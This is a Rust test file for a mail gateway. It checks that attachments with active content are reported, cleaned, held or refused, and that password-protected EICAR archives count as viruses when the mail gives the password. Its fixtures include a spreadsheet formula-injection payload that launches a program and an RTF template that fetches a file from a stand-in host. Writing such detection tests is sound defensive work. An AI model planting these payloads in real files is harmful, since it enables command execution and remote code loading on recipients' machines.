//! What acts when it is opened, over SMTP: reported, taken out, held; and passwords that a mail says.

use sekisho_tests::gateway::{Gateway, Setup};
use sekisho_tests::hop::Hop;
use serde_json::Value;

use crate::eicar::{TEXT, attachment, mail};
use crate::quarantine::starter_rules;

/// A table that starts a program: read on a shard.
const TABLE: &[u8] = b"name,sum\r\n=cmd|' /C calc'!A0,2\r\n";
/// Rich text with a template elsewhere: read by a worker.
const RICH: &[u8] = b"{\\rtf1{\\*\\template http://bad.example/x.dotm} hello}";

fn row(gateway: &Gateway, to: &str) -> Value {
    sekisho_tests::wait::wait_for("the row is in the log", || {
        let rows = gateway.sekisho_json(&["log", "search", &format!("to={to}")]);
        rows.into_iter().find(|row| row["row"] == "delivery" && row["to"] == to)
    })
}

/// The mail that the hop got for `to`, if it got one.
fn delivered(hop: &Hop, to: &str) -> Option<String> {
    let mut mails = hop.mails().into_iter();
    let mail = mails.find(|mail| mail.envelope.rcpt_to.iter().any(|one| one == to))?;
    Some(String::from_utf8(mail.content).unwrap())
}

fn gateway(hop: &Hop, settings: &str) -> Gateway {
    let settings = format!(
        "recipient.verify = \"off\"\nquarantine.reply = \"accept\"\nclassifier.enabled = false\n{settings}"
    );
    Gateway::start(&Setup { settings, ..Setup::to(hop.address()) })
}

#[test]
fn tm_09_active_content_is_reported_and_delivered_unless_the_domain_says_otherwise() {
    let hop = Hop::start();
    let gateway = gateway(&hop, "");
    for (to, name, octets) in [("a@demo.test", "a.csv", TABLE), ("b@demo.test", "a.doc", RICH)] {
        let content = mail("x", &[TEXT, &attachment(name, octets)]);
        let sent = gateway.send("a@client.example", &[to], &content);
        assert_eq!(sent.reply.code, 250, "{sent:?}");
        assert!(delivered(&hop, to).is_some(), "{to}");
        let row = row(&gateway, to);
        assert_eq!((&row["classification"], &row["status"]), (&"Not Spam".into(), &"sent".into()));
        assert!(row.to_string().contains("ACTIVE_"), "{row}");
    }
}

#[test]
fn tm_09_active_content_is_taken_out_where_the_domain_cleans() {
    let hop = Hop::start();
    let gateway = gateway(&hop, "active_content.action = \"clean\"\n");
    let other = attachment("notes.txt", b"nothing in here");
    for (to, name, octets) in [("a@demo.test", "a.csv", TABLE), ("b@demo.test", "a.doc", RICH)] {
        let part = attachment(name, octets);
        let content = mail("x", &[TEXT, &part, &other]);
        let sent = gateway.send("a@client.example", &[to], &content);
        assert_eq!(sent.reply.code, 250, "{sent:?}");
        let got = delivered(&hop, to).unwrap();
        assert!(got.contains(&format!("{name}.txt")) && got.contains(&other), "{got}");
        assert!(!got.contains(&part), "{got}");
        let row = row(&gateway, to);
        assert_eq!(
            (&row["sub_class"], &row["action"]),
            (&"active_content".into(), &"Deliver".into())
        );
        assert!(
            row["removed"][0].as_str().unwrap().starts_with(&format!("{name} (ACTIVE_")),
            "{row}"
        );
    }
    // Where it is the only body, nothing can be taken out: held.
    let only = format!(
        "From: a@client.example\r\nSubject: x\r\nDate: Thu, 26 Nov 2026 09:00:00 +0900\r\nMessage-ID: <1@client.example>\r\n{}\r\n",
        attachment("a.csv", TABLE)
    );
    let sent = gateway.send("a@client.example", &["c@demo.test"], only.as_bytes());
    assert_eq!(sent.reply.code, 250, "{sent:?}");
    assert!(delivered(&hop, "c@demo.test").is_none());
    assert_eq!(row(&gateway, "c@demo.test")["action"], "Quarantine");
}

#[test]
fn tm_09_active_content_is_held_or_refused_where_the_domain_says_so() {
    let hop = Hop::start();
    let content = mail("x", &[TEXT, &attachment("a.csv", TABLE)]);
    let held = gateway(&hop, "active_content.action = \"quarantine\"\n");
    assert_eq!(held.send("a@client.example", &["a@demo.test"], &content).reply.code, 250);
    let row = row(&held, "a@demo.test");
    assert_eq!(
        (&row["action"], &row["reason"], &row["sub_class"]),
        (&"Quarantine".into(), &"content".into(), &"active_content".into()),
        "{row}"
    );
    let refused = gateway(&hop, "active_content.action = \"reject\"\n");
    assert_eq!(refused.send("a@client.example", &["a@demo.test"], &content).reply.code, 550);
    assert!(hop.mails().is_empty());
}

#[test]
fn a_protected_archive_is_a_virus_where_the_mail_says_its_password() {
    let Some(folder) = sekisho_tests::corpus::folder("eicar") else { return };
    let hop = Hop::start();
    let gateway = Gateway::start(&Setup { files: starter_rules(), ..Setup::to(hop.address()) });
    let names = ["eicar-pw-zipcrypto.zip", "eicar-pw-aes256.zip", "eicar-pw.7z", "eicar-pw-hdr.7z"];
    for (index, name) in names.into_iter().enumerate() {
        let octets = std::fs::read(folder.join(name)).unwrap();
        let said = TEXT.replace("hello", "パスワードは infected です");
        for (text, class) in [(TEXT, "Unknown"), (said.as_str(), "Virus")] {
            let to = format!("{class}-{index}@demo.test").to_lowercase();
            let content = mail("x", &[text, &attachment(name, &octets)]);
            let sent = gateway.send("a@client.example", &[&to], &content);
            assert_eq!(sent.reply.code, 250, "{name}: {sent:?}");
            assert_eq!(row(&gateway, &to)["classification"], class, "{name}");
        }
    }
}
